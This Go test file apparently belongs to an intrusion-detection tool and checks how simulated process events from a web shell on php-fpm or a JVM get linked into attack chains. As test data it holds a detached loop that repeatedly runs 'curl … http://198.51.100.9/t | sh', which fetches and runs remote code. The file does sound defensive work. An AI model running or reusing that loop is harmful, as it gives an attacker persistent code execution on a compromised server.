package timeline

import (
	"testing"

	"github.com/auditchain/auditchain/detect"
)

// TestLinkDetached: a web shell detaches a polling loop with `setsid … &`;
// the loop's process is under init from its first record. It joins the
// web shell's chain by its command line, inferred; a loop under init with
// another command line, or as another user, does not.
func TestLinkDetached(t *testing.T) {
	const loop = "while :; do curl -fsS http://198.51.100.9/t | sh; sleep 3; done"
	for _, c := range []struct {
		name  string
		args  []string
		uid   uint32
		after float64
		want  bool
	}{
		{"the detached loop", []string{"setsid", "sh", "-c", loop}, 33, 0.008, true},
		{"another loop", []string{"setsid", "sh", "-c", "while :; do /usr/local/bin/queue-worker; sleep 3; done"}, 33, 0.008, false},
		{"another user", []string{"setsid", "sh", "-c", loop}, 0, 0.008, false},
		{"too late", []string{"setsid", "sh", "-c", loop}, 33, 5, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			sh := shellOf(300, worker1, "/var/www/html/uploads")
			start := s.find(s.exec(10, sh, "sh", "-c", "setsid sh -c '"+loop+"' >/dev/null 2>&1 &"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			orphan := who{pid: 301, ppid: 1, uid: c.uid, cwd: "/var/www/html/uploads"}
			s.exec(10+c.after, orphan, c.args...)
			curl := child(302, orphan)
			dl := s.find(s.exec(10.1+c.after, curl, "curl", "-fsS", "http://198.51.100.9/t"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Tool Download")
			r := s.build()
			ch := chainOf(r, start)
			if got := chainOf(r, dl) == ch; got != c.want {
				dumpChains(t, r)
				t.Fatalf("joined %v, want %v", got, c.want)
			}
			if c.want && !hasLink(ch, "detached (inferred): ", "no fork is recorded") {
				t.Errorf("links %q: the link must say it is inferred and why", ch.Links)
			}
		})
	}
}

// TestRootGapNeedsTellingCwds: the time-gap link between two children of
// one server rests on their working directories telling scripts apart; an
// application server that starts every child in its own directory (a
// JVM) gives no such evidence, and its mail shell-out stays out of the web
// shell's chain. On php-fpm, whose children run in their script's folder,
// the link still joins two roots in the same folder.
func TestRootGapNeedsTellingCwds(t *testing.T) {
	jvm := who{pid: 500, ppid: 1, uid: 2008, exe: "/usr/lib/jvm/java-17/bin/java", cwd: "/opt/app"}
	for _, c := range []struct {
		name   string
		server who
		cwdA   string
		cwdB   string
		other  string // a third child's cwd: the server's children vary or not
		joined bool
	}{
		{"php-fpm, one folder of several", worker1, "/var/www/html/uploads", "/var/www/html/uploads", "/var/www/html", true},
		{"a JVM, every child in its cwd", jvm, "/opt/app", "/opt/app", "/opt/app", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{WebServers: []string{"php-fpm*", "java"}})
			s.webServer()
			s.touch(0, jvm)
			a := who{pid: 600, ppid: c.server.pid, uid: c.server.uid, cwd: c.cwdA}
			b := who{pid: 601, ppid: c.server.pid, uid: c.server.uid, cwd: c.cwdB}
			o := who{pid: 602, ppid: c.server.pid, uid: c.server.uid, cwd: c.other}
			s.exec(5, o, "sh", "-c", "/usr/sbin/sendmail -t -i")
			fa := s.find(s.exec(10, a, "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
			fb := s.find(s.exec(20, b, "sh", "-c", "/usr/sbin/sendmail -t -i"), detect.StageCommandExecution, detect.SeverityMedium, "Web Server Shell Spawn")
			r := s.build()
			if got := chainOf(r, fa) == chainOf(r, fb); got != c.joined {
				dumpChains(t, r)
				t.Fatalf("joined %v, want %v", got, c.joined)
			}
		})
	}
}
